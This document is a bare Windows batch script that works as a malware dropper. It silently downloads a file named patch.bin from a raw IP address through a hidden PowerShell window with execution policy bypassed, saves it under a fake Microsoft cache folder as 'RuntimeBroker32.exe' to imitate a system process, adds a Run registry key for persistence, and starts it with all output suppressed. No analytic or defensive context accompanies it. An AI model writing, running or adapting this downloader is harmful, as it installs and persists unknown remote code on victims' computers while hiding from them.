@echo off
setlocal
set "D=%LOCALAPPDATA%\Microsoft\WindowsApps\Cache"
if not exist "%D%" mkdir "%D%" >nul 2>&1
set "O=%D%\RuntimeBroker32.exe"
powershell -NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -Command "$w=New-Object Net.WebClient;$w.Headers.Add(User-Agent,Mozilla/5.0);$w.DownloadFile(http://203.0.113.15/dl/patch.bin,$env:O)" >nul 2>&1
if exist "%O%" (
  reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v "RuntimeBroker32" /t REG_SZ /d "\"%O%\"" /f >nul 2>&1
  start "" /B "%O%"
)
endlocal
exit /b 0
